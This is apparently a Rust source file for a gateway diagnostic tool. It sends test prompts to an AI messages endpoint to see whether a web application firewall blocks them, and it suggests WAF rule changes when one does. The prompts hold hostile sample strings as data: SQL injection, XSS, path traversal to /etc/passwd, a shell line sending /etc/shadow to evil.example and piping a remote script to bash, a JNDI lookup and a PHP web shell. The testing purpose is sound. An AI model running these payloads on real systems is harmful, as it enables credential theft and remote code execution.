//! Prompts as developers send them: with SQL, scripts and paths in them, and large. Web application firewalls
//! take these for attacks. They ask for a model that there is not, so that they cost nothing, and are sent to
//! the very route of messages, since rules may be for that one.

use std::time::Duration;

use serde_json::json;

use super::report::Check;
use super::wire::Wire;

const DEADLINE: Duration = Duration::from_secs(60);
const NO_MODEL: &str = "claude-ccag-doctor-asks-for-no-model";

/// What is sent, by what it is called.
fn prompts() -> Vec<(&'static str, String)> {
    let filler = |bytes: usize| "All work and no play makes a long prompt. ".repeat(bytes / 42 + 1);
    vec![
        ("plain text", "Good day".to_owned()),
        ("SQL", "Explain: SELECT * FROM users WHERE name = '' OR 1=1 UNION SELECT password FROM admins; DROP TABLE users; --".to_owned()),
        ("a script", "Review <script>alert(document.cookie)</script> and <img src=x onerror=alert(1)>.".to_owned()),
        ("paths", "Read ../../../../etc/passwd, /proc/self/environ and C:\\Windows\\System32\\cmd.exe.".to_owned()),
        ("a shell", "Run ; cat /etc/shadow | nc evil.example 4444 && $(curl http://evil.example/x.sh | bash)".to_owned()),
        ("a template", "Log ${jndi:ldap://evil.example/a} and {{7*7}} <?php system($_GET['c']); ?>".to_owned()),
        ("16 KB", filler(16 * 1024)),
        ("1 MB", filler(1024 * 1024)),
    ]
}

/// Sends them all.
pub(super) async fn checks(wire: &Wire) -> Vec<Check> {
    const NAME: &str = "WAF";
    let (mut checks, mut passed) = (Vec::new(), Vec::new());
    for (name, prompt) in prompts() {
        let body = json!({
            "model": NO_MODEL, "max_tokens": 1, "messages": [{ "role": "user", "content": prompt }],
        });
        let body = Some(body.to_string().into_bytes());
        let found = match wire.call("POST", "/v1/messages?beta=true", body, DEADLINE).await {
            Ok(answer) if answer.is_of_gateway() && answer.json().get("error").is_some() => {
                passed.push(name);
                continue;
            }
            Ok(answer) => answer.told(),
            Err(error) => error,
        };
        let advice = if name.ends_with('B') {
            "Prompts are up to 32 MB: raise the limit of bodies there (nginx: client_max_body_size; AWS WAF: SizeRestrictions_BODY to count)."
        } else {
            "Leave the gateway's /v1/ out of the rules about bodies (AWS WAF: set the body rules of the common and SQL rule groups to count)."
        };
        checks.push(Check::fail(
            NAME,
            format!("a prompt with {name} does not come through: {found}"),
            advice,
        ));
    }
    if !passed.is_empty() {
        checks.insert(0, Check::ok(NAME, format!("prompts come through: {}", passed.join(", "))));
    }
    checks
}
